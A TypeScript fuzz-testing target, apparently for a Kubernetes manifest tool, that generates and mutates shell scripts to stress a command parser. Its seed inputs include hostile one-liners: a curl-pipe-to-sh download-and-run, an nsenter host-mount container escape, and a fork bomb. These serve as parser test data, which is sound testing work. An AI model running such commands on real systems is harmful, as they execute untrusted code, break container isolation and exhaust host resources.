import fc from 'fast-check';
import { ManifestFile } from '../../../server/src/manifest/file';
import { scriptCommands } from '../../../server/src/pod/shell';
import { podRunning } from '../../unit/manifests';
import { MANIFESTS } from '../corpus';
import { made } from '../grammar';
import { mutate } from '../mutate';
import { hashOf } from '../random';
import { holds, type Target } from '../target';
import { judge } from '../workspace';

const SCRIPTS = [
  ...MANIFESTS.flatMap((text) =>
    [...text.matchAll(/^\s*(?:- |command: |args: )[^\n]*(?:sh|bash)[^\n]*$/gm)].map(([line]) => line.trim()),
  ),
  'set -e\nwhile true; do cat /var/log/a.log; sleep 30; done',
  'curl -sSL https://x | sh; nsenter -t 1 -m -- bash -c "mount /dev/sda /mnt"',
  'if [ -f x ]; then tail -F "$X" > /dev/null 2>&1 & else exec "$@"; fi',
  'f() { f | f & }; f; case "$1" in a|b) x;; *) y;; esac <<EOF\n$(cat <<"IN"\n`x`\nIN\n)\nEOF\n',
  'for i in {1..9} "${a[@]:1:2}" $((1 + $(x))); do (cd $i && [[ $x =~ ^(a+)+$ ]] ) || { echo "${y:-$(z "$(w)")}"; }; done',
];
const PIECES = [
  '$(',
  ')',
  '`',
  '"',
  "'",
  '((',
  '))',
  '[[',
  ']]',
  '{',
  '}',
  ';',
  '&',
  '|',
  '&&',
  '||',
  '<<EOF\n',
  'EOF\n',
  '<<<',
  '<(',
  '>(',
  '$((',
  '${',
  '${#x}',
  '${x//a/b}',
  '\\',
  '\n',
  ' ',
  '#',
  '!',
  '*',
  '~',
  'if ',
  'then ',
  'fi ',
  'while ',
  'do ',
  'done ',
  'case ',
  'in ',
  'esac ',
  'function f ',
  'sh -c ',
  "bash -c '",
  'eval ',
  'time ',
  'coproc ',
  'select x in ',
  'a=b ',
  'a=(b c) ',
  '2>&1 ',
  '>| ',
  "$'\\x41'",
  '$"x"',
  'echo ',
  'kubectl ',
  '/bin/sh ',
  '\u0000',
  '\ud800',
];

const SOURCE = ManifestFile.read('apiVersion: v1\nkind: Pod\n').documents[0]?.document.root;
const grammar = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join(''));

export const shell: Target = {
  name: 'shell',
  kind: 'shell scripts in commands',
  weight: 20,
  input(random) {
    const text = random.once(3) ? made(grammar, random) : random.pick(SCRIPTS);
    return random.once(4) ? text : mutate(text, random, SCRIPTS);
  },
  check(text, steps) {
    if (!SOURCE) throw new Error('There is no value to stand for the script.');
    const commands = steps.run('parse', () => scriptCommands(text, SOURCE));
    for (const { program, args } of commands)
      holds(typeof program === 'string' && args.every((arg) => typeof arg === 'string'), 'A command has no words.');
    // Judging is much more work, so that only some scripts are.
    if (hashOf(text) % 16 > 0 || text.includes('\u0000')) return;
    const file = ManifestFile.read(podRunning(['sh', '-c', text], ['x', text.slice(0, 200)]));
    judge(new Map([['file:///pod.yaml', file]]), steps);
  },
};
